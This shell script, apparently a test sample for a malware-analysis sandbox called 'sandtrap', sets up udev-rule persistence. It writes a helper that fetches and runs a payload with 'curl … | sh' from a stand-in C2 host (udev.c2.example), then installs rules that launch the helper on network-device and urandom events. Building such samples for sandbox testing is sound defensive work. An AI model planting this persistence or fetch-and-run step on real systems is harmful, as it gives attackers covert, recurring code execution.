#!/bin/sh
# Persistence through a udev rule whose RUN+= starts a payload whenever a device appears.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
mkdir -p /etc/udev/rules.d /usr/lib/udev
printf '#!/bin/sh\n/bin/sh -c "curl -s http://udev.c2.example/p | sh" &\n' > /usr/lib/udev/udev-sync
chmod 755 /usr/lib/udev/udev-sync
echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/udev/udev-sync"' > /etc/udev/rules.d/75-net-sync.rules
echo 'SUBSYSTEM=="random", KERNEL=="urandom", RUN+="/usr/lib/udev/udev-sync"' >> /etc/udev/rules.d/75-net-sync.rules
cat /etc/udev/rules.d/75-net-sync.rules
